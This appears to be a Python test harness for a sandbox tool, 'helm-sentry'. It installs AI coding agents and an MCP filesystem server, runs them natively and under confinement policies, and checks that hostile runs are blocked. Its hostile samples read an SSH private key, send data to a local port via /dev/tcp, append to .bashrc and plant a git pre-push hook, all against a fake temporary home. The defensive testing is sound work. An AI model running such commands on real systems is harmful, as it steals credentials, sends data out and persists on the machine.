"""Real agents, under their presets and under policies learnt from them. By hand, because it installs them:

    .venv/bin/python -m tests.agents.try_agents DIRECTORY [NAME…]

Installs each agent from the registries this machine is set up for into DIRECTORY (kept for the next time), then for each:
a native run as the control, a run under its preset, and a hostile run that must not reach a secret, a foreign address or
a start-up file, though it does natively. `learnt-*` do the same under a policy that `learn` has just written, and want
no denial at all in the run that is not hostile.
"""

import json
import os
import shutil
import socket
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.agents.scripted_model import FAREWELL, ScriptedModel

HERE = Path(__file__).parent
SENTRY = [str(Path(sys.executable).parent / "helm-sentry")]
GOOD = "echo made > made.txt; cat made.txt"
MARK = "SECRET-4711"


@dataclass(frozen=True)
class Agent:
    """How an agent is installed and started.

    Attributes:
        preset: its policy.
        install: commands that install it, run in its own directory.
        command: what runs it, given its directory and the model's port.
        environment: variables it needs.
        rules: what its place of installation needs besides the preset.
    """

    preset: str
    install: tuple[tuple[str, ...], ...]
    command: Callable[[Path, int], list[str]]
    environment: Callable[[int], dict[str, str]] = lambda port: {}
    rules: str = ""


NPM = ("npm", "install", "--no-audit", "--no-fund")
VENV = ("/usr/bin/python3", "-m", "venv", "env")


def _pip(*packages: str) -> tuple[str, ...]:
    return ("env/bin/pip", "install", "-q", *packages)


def _codex(directory: Path, port: int) -> list[str]:
    (binary,) = directory.glob("node_modules/@openai/codex-linux-*/vendor/*/bin/codex")
    provider = f'{{name="local",base_url="http://127.0.0.1:{port}/v1",env_key="OPENAI_API_KEY",wire_api="responses"}}'
    options = ["-m", "gpt-5", "-c", 'model_provider="local"', "-c", f"model_providers.local={provider}"]
    return [str(binary), "exec", "--skip-git-repo-check", "--sandbox", "danger-full-access", *options, "do it"]


def _claude(directory: Path, port: int) -> list[str]:
    (binary,) = directory.glob("node_modules/@anthropic-ai/claude-code-linux-*/claude")
    return [str(binary), "-p", "do it", "--allowedTools", "Bash"]


def _python(script: str) -> Callable[[Path, int], list[str]]:
    def command(directory: Path, port: int) -> list[str]:
        return [str(directory / "env/bin/python"), str(directory / script), f"http://127.0.0.1:{port}/v1"]

    return command


AGENTS = {
    "claude-code": Agent(
        "claude-code",
        ((*NPM, "@anthropic-ai/claude-code"),),
        _claude,
        lambda port: {"ANTHROPIC_BASE_URL": f"http://127.0.0.1:{port}", "ANTHROPIC_API_KEY": "none"},
    ),
    "codex": Agent("codex", ((*NPM, "@openai/codex"),), _codex, lambda port: {"OPENAI_API_KEY": "none"}),
    "openai-agents": Agent("openai-agents", (VENV, _pip("openai-agents")), _python("openai_agent.py")),
    "langgraph": Agent("langgraph", (VENV, _pip("langgraph", "openai")), _python("langgraph_agent.py")),
}


class Trial:
    """One agent in one directory, with a home that holds a secret and a server that is none of its business."""

    def __init__(self, directory: Path) -> None:
        self.directory = directory
        self.home, self.workspace = directory / "home", directory / "w"
        for path in (self.home / ".ssh", self.workspace):
            path.mkdir(parents=True, exist_ok=True)
        (self.home / ".ssh/id_ed25519").write_text(MARK)
        (self.home / ".bashrc").write_text("")
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)

    def harmful(self) -> str:
        """Commands that do harm."""
        port = self.server.getsockname()[1]
        return (
            f"cat {self.home}/.ssh/id_ed25519; echo hello > /dev/tcp/127.0.0.1/{port}; echo evil >> {self.home}/.bashrc"
        )

    def hostile(self) -> str:
        """A command that runs a script which somebody has left in the project; what it does does not show in it."""
        (self.workspace / "hostile.sh").write_text(self.harmful() + "\n")
        return "bash hostile.sh"

    def run(self, command: list[str], more: dict[str, str], timeout: float = 180) -> subprocess.CompletedProcess[str]:
        environment = {"PATH": os.environ["PATH"], "HOME": str(self.home), "LANG": "C.UTF-8", "TERM": "dumb", **more}
        environment["XDG_STATE_HOME"] = str(self.directory / "state")
        for name in ("made.txt",):
            (self.workspace / name).unlink(missing_ok=True)
        return subprocess.run(
            command, cwd=self.workspace, env=environment, capture_output=True, text=True, stdin=subprocess.DEVNULL,
            timeout=timeout, check=False,
        )  # fmt: skip

    def harm(self, output: str) -> list[str]:
        """What a hostile run achieved."""
        reached = []
        if MARK in output:
            reached.append("secret read")
        try:
            self.server.accept()[0].close()
            reached.append("address reached")
        except TimeoutError:
            pass
        if "evil" in (self.home / ".bashrc").read_text():
            reached.append("start-up file changed")
            (self.home / ".bashrc").write_text("")
        return reached

    def policy(self, name: str, preset: str, port: int, rules: str) -> Path:
        path = self.directory / f"{name}.yaml"
        path.write_text(
            f"schema: helm-sentry/policy/v1\nname: local\nextends: [{preset}]\nallow:\n  - id: scripted-model\n"
            f"    connect: {{addresses: [127.0.0.1], ports: [{port}], protocols: [tcp]}}\n{rules}"
        )
        return path


def try_agent(name: str, agent: Agent, root: Path) -> list[str]:
    """Return what went wrong."""
    directory = root / name
    install(directory, agent.install)
    trial, wrong = Trial(directory), []
    for script in HERE.glob("*_agent.py"):
        shutil.copy(script, directory)
    for word, text in (("good", GOOD), ("hostile", trial.hostile())):
        for way in ("native", "preset"):
            with ScriptedModel(text) as model:
                command = agent.command(directory, model.port)
                rules = (
                    f"  - id: installed\n    file: {{do: [read, list], paths: ['{directory}/node_modules/**', "
                    f"'{directory}/env/**', '{directory}/*.py']}}\n"
                )
                policy = trial.policy(name, agent.preset, model.port, rules)
                wrapper = [*SENTRY, "run", "--quiet", "--policy", str(policy), "--"] if way == "preset" else []
                done = trial.run([*wrapper, *command], agent.environment(model.port))
                answers = " ".join(model.results)
            harm = trial.harm(answers)
            print(
                f"  {way:<7} {word:<8} status {done.returncode}, tool answered {len(answers)} bytes; harm: {harm or 'none'}"
            )
            if FAREWELL not in done.stdout:
                wrong.append(f"{way} {word}: it did not get to its end: {done.stderr[-800:]}")
            if word == "good" and "made" not in answers:
                wrong.append(f"{way} {word}: its tool did not work")
            if word == "hostile" and (len(harm) == 3) != (way == "native"):
                wrong.append(f"{way} {word}: harm {harm}")
            if word == "hostile" and way == "preset" and harm:
                wrong.append(f"{way} {word}: harm {harm}")
    return wrong


def try_learnt(name: str, command: Callable[[str], list[str]], good: str, hostile: str, trial: Trial) -> list[str]:
    """Learn from a program, run it enforced, then a hostile variant; return what went wrong."""
    wrong: list[str] = []
    policy = trial.directory / f"{name}.yaml"
    policy.unlink(missing_ok=True)
    learn = trial.run([*SENTRY, "learn", "-o", str(policy), "--", *command(good)], {})
    enforced = trial.run([*SENTRY, "run", "--policy", str(policy), "--", *command(good)], {})
    last = enforced.stderr.splitlines()[-1] if enforced.stderr else ""
    print(
        f"  learnt: {learn.stderr.splitlines()[-2:] or learn.returncode}\n  enforced: status {enforced.returncode}; {last}"
    )
    if enforced.returncode or ", 0 denied" not in last:
        wrong.append(f"enforced: {enforced.stderr[-800:]}")
    native = trial.run(command(hostile), {})
    if not (before := trial.harm(native.stdout)):
        wrong.append(f"hostile: no harm natively: {native.stdout[-300:]} {native.stderr[-300:]}")
    attacked = trial.run([*SENTRY, "run", "--policy", str(policy), "--", *command(hostile)], {})
    harm = trial.harm(attacked.stdout)
    print(f"  hostile: native {before}, enforced {harm or 'none'}; {attacked.stderr.splitlines()[-1:]}")
    return wrong + ([f"hostile: {harm}"] if harm else [])


def learnt_langgraph(root: Path) -> list[str]:
    directory = root / "langgraph"
    install(directory, AGENTS["langgraph"].install)
    trial = Trial(directory)
    shutil.copy(HERE / "langgraph_agent.py", trial.workspace)
    python, script = str(directory / "env/bin/python"), str(trial.workspace / "langgraph_agent.py")
    with ScriptedModel(GOOD) as model:

        def command(text: str) -> list[str]:
            model.command = text
            model.results.clear()
            return [python, script, f"http://127.0.0.1:{model.port}/v1"]

        return try_learnt("learnt", command, GOOD, trial.harmful(), _Answering(trial, model))


class _Answering(Trial):
    # What the tool answered is what the model saw, not what the agent printed.
    def __init__(self, trial: Trial, model: ScriptedModel) -> None:
        self.__dict__.update(trial.__dict__)
        self._model = model

    def harm(self, output: str) -> list[str]:
        return super().harm(output + " ".join(self._model.results))


def learnt_mcp(root: Path) -> list[str]:
    directory = root / "mcp-filesystem"
    install(directory, ((*NPM, "@modelcontextprotocol/server-filesystem"),))
    trial = Trial(directory)
    server = ["node", str(directory / "node_modules/@modelcontextprotocol/server-filesystem/dist/index.js")]
    good = json.dumps([
        ["write_file", {"path": str(trial.workspace / "a.txt"), "content": "text"}],
        ["read_text_file", {"path": str(trial.workspace / "a.txt")}],
        ["list_directory", {"path": str(trial.workspace)}],
    ])  # fmt: skip
    hostile = json.dumps([
        ["read_text_file", {"path": str(trial.home / ".ssh/id_ed25519")}],
        ["edit_file", {"path": str(trial.home / ".bashrc"), "edits": [{"oldText": "", "newText": "evil"}]}],
        ["write_file", {"path": str(trial.home / ".bashrc"), "content": "evil"}],
    ])  # fmt: skip

    def command(steps: str) -> list[str]:
        # The hostile variant is a server that was told to serve the home directory too.
        served = [str(trial.workspace)] + ([str(trial.home)] if steps == hostile else [])
        return ["/usr/bin/python3", str(HERE / "mcp_client.py"), steps, "--", *server, *served]

    return try_learnt("learnt", command, good, hostile, trial)


def preset_mcp(root: Path) -> list[str]:
    directory = root / "mcp-filesystem"
    install(directory, ((*NPM, "@modelcontextprotocol/server-filesystem"),))
    trial, wrong = Trial(directory), []
    index = directory / "node_modules/@modelcontextprotocol/server-filesystem/dist/index.js"
    policy = directory / "preset.yaml"
    policy.write_text(
        "schema: helm-sentry/policy/v1\nname: local\nextends: [mcp-filesystem]\nallow:\n  - id: installed\n"
        f"    file: {{do: [read, list], paths: ['{directory}/node_modules/**', '{directory}/package.json']}}\n"
    )
    confined = [*SENTRY, "run", "--quiet", "--policy", str(policy), "--"]
    steps = json.dumps([
        ["write_file", {"path": str(trial.workspace / "a.txt"), "content": "text"}],
        ["read_text_file", {"path": str(trial.workspace / "a.txt")}],
        ["read_text_file", {"path": str(trial.home / ".ssh/id_ed25519")}],
        ["write_file", {"path": str(trial.home / ".bashrc"), "content": "evil"}],
    ])  # fmt: skip
    for way, wrapper in (("native", []), ("preset", confined)):
        served = [str(trial.workspace), str(trial.home)]
        done = trial.run(
            ["/usr/bin/python3", str(HERE / "mcp_client.py"), steps, "--", *wrapper, "node", str(index), *served], {}
        )
        harm = trial.harm(done.stdout)
        print(f"  {way:<7} status {done.returncode}; harm: {harm or 'none'}; {done.stdout.splitlines()}")
        if "text" not in done.stdout.splitlines():
            wrong.append(f"{way}: the file was not served: {done.stdout[-500:]} {done.stderr[-800:]}")
        if bool(harm) != (way == "native"):
            wrong.append(f"{way}: harm {harm}")
    return wrong


def preset_pytest(root: Path) -> list[str]:
    directory = root / "pytest-ci"
    install(directory, (VENV, _pip("pytest")))
    trial, wrong = Trial(directory), []
    (trial.workspace / ".git/hooks").mkdir(parents=True, exist_ok=True)
    (trial.workspace / "test_good.py").write_text("def test(tmp_path):\n    (tmp_path / 'a').write_text('x')\n")
    (trial.workspace / "test_hostile.py").write_text(
        "import os, subprocess\ndef test():\n"
        f"    subprocess.run(['bash', '-c', '{trial.hostile()}; echo evil > .git/hooks/pre-push'])\n"
    )
    policy = trial.policy(
        "pytest-ci",
        "pytest-ci",
        1,
        f"  - id: installed\n    file: {{do: [read, list], paths: ['{directory}/env/**']}}\n",
    )
    for way, wrapper in (("native", []), ("preset", [*SENTRY, "run", "--quiet", "--policy", str(policy), "--"])):
        hook = trial.workspace / ".git/hooks/pre-push"
        hook.unlink(missing_ok=True)
        done = trial.run([*wrapper, str(directory / "env/bin/python"), "-m", "pytest", "-q", "-s"], {})
        harm = trial.harm(done.stdout) + (["hook left behind"] if hook.exists() else [])
        print(f"  {way:<7} status {done.returncode}; harm: {harm or 'none'}; {done.stdout.splitlines()[-1:]}")
        if "2 passed" not in done.stdout:
            wrong.append(f"{way}: {done.stdout[-500:]} {done.stderr[-500:]}")
        if bool(harm) != (way == "native"):
            wrong.append(f"{way}: harm {harm}")
    return wrong


def install(directory: Path, commands: tuple[tuple[str, ...], ...]) -> None:
    """Install once."""
    if not (directory / "installed").exists():
        directory.mkdir(parents=True, exist_ok=True)
        if commands[0][0] == "npm":  # or it installs beside the nearest package.json above
            (directory / "package.json").write_text("{}")
        for command in commands:
            subprocess.run(command, cwd=directory, check=True, stdout=subprocess.DEVNULL)
        (directory / "installed").write_text("")


TRIALS: dict[str, Callable[[Path], list[str]]] = {
    **{name: (lambda root, name=name, agent=agent: try_agent(name, agent, root)) for name, agent in AGENTS.items()},
    "mcp-filesystem": preset_mcp,
    "pytest-ci": preset_pytest,
    "learnt-langgraph": learnt_langgraph,
    "learnt-mcp-filesystem": learnt_mcp,
}


def main(directory: str, *names: str) -> int:
    failed = 0
    for name in names or TRIALS:
        print(name, flush=True)
        wrong = TRIALS[name](Path(directory).resolve())
        failed += bool(wrong)
        print("\n".join(f"  WRONG {each}" for each in wrong) if wrong else "  ok", flush=True)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:]))
